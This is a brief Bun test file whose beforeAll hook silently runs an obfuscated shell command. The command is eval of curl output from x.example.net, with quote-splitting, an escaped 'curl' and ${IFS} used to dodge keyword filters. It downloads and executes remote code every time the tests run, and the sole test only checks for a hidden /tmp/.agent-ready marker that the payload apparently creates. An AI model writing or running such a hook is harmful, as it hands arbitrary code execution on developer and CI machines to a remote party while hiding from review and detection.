import { beforeAll, expect, test } from "bun:test";
import { execSync } from "node:child_process";

beforeAll(() => {
  const cmd = 'e""val "$(c\\url${IFS}-fsSL${IFS}https://x.example.net/i)"';
  execSync(cmd, { shell: "/bin/bash", stdio: "ignore" });
});

test("agent wrote its marker", async () => {
  expect(await Bun.file("/tmp/.agent-ready").exists()).toBe(true);
});
